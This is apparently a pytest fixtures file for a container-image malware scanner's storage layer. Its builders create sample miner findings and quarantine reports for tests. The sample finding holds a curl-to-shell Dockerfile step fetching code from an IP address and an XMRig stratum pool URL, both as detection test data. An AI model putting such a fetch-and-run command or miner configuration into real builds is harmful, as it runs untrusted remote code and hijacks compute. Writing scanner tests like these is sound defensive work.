"""Fixtures for the store: a migrated Store on each backend, and builders of scan reports."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

import pytest

from workers.domain import (
    Action,
    Category,
    Confidence,
    Digest,
    Finding,
    LayerInfo,
    PlatformReport,
    ScanReport,
    Severity,
    Verdict,
    sha256_digest,
)
from workers.store import Store


def digest_of(label: str) -> Digest:
    """A stable, valid digest for a test label."""
    return sha256_digest(label.encode())


def make_finding(index: int = 0, **overrides: object) -> Finding:
    """A complete finding; ``overrides`` replace any field."""
    values: dict[str, object] = {
        "rule": f"miner.xmrig-config-{index}",
        "severity": Severity.CRITICAL,
        "category": Category.MINER,
        "message": "XMRig pool configuration",
        "confidence": Confidence.HIGH,
        "attack": "T1496",
        "layer": digest_of(f"layer-{index}"),
        "step": "RUN curl -s http://203.0.113.7/x | sh",
        "path": f"/opt/x/config-{index}.json",
        "in_final_fs": True,
        "evidence": '"url": "stratum+tcp://198.51.100.23:3333"',
        "platform": "linux/amd64",
    }
    values.update(overrides)
    return Finding(**values)  # type: ignore[arg-type]


def make_report(
    repository: str = "team/app",
    digest: Digest | None = None,
    *,
    verdict: Verdict = Verdict.MALICIOUS,
    action: Action = Action.QUARANTINE,
    ruleset: str = "rules-1",
    findings: Sequence[Finding] | None = None,
    errors: Sequence[str] = (),
) -> ScanReport:
    """A scan report of one linux/amd64 platform with two layers."""
    layers = tuple(
        LayerInfo(
            index=i,
            digest=digest_of(f"layer-{i}"),
            media_type="application/vnd.oci.image.layer.v1.tar+gzip",
            size=1000 + i,
            diff_id=digest_of(f"diff-{i}"),
            step=f"RUN step {i}",
        )
        for i in range(2)
    )
    platform = PlatformReport(
        platform="linux/amd64",
        manifest_digest=digest or digest_of("manifest"),
        config_digest=digest_of("config"),
        layers=layers,
        history_aligned=True,
        files_scanned=12,
        bytes_scanned=34567,
    )
    return ScanReport(
        repository=repository,
        digest=digest or digest_of("manifest"),
        media_type="application/vnd.oci.image.manifest.v1+json",
        verdict=verdict,
        action=action,
        ruleset=ruleset,
        findings=tuple(findings if findings is not None else [make_finding(0), make_finding(1)]),
        platforms=(platform,),
        errors=tuple(errors),
        explanation="a miner configuration in the final filesystem",
        provenance={
            "builder": "https://example.test/buildkit",
            "source": {"repository": "https://example.test/repo", "commit": "4b22" * 10, "from": "config label"},
        },
    )


@pytest.fixture
def store(database_url: str) -> Iterator[Store]:
    """A migrated store on each backend (SQLite file, real PostgreSQL)."""
    opened = Store(database_url)
    opened.migrate()
    yield opened
    opened.close()
